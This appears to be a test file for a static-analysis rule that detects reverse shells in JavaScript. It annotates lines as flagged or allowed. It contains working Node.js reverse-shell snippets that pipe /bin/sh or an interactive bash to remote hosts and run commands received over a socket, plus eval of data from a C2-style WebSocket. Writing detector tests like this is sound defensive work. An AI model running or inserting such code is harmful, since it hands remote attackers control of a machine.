// A shell wired to an outgoing connection, or code and commands received from one.
const net = require('net');
const cp = require('child_process');

const sh = cp.spawn('/bin/sh', []);
const client = new net.Socket();
client.connect(4444, '203.0.113.9', function () {
  // ruleid: javascript.proc.reverse_shell
  client.pipe(sh.stdin);
  // ruleid: javascript.proc.reverse_shell
  sh.stdout.pipe(client);
});

const socket = net.connect(9001, 'c2.example.net');
socket.on('data', (data) => {
  // ruleid: javascript.proc.reverse_shell
  cp.exec(data.toString(), (err, out) => socket.write(out));
});

const conn = net.createConnection({ host: '198.51.100.7', port: 8080 });
// ruleid: javascript.proc.reverse_shell
const bash = cp.spawn('bash', ['-i'], { stdio: [conn, conn, conn] });

const ws = new WebSocket('wss://c2.example.net/socket');
ws.onmessage = (event) => {
  // ok: javascript.proc.reverse_shell
  eval(event.data);
};

// ok: javascript.proc.reverse_shell
const local = cp.spawn('/bin/sh', ['-c', 'ls']);
// ok: javascript.proc.reverse_shell
socket.write('hello');
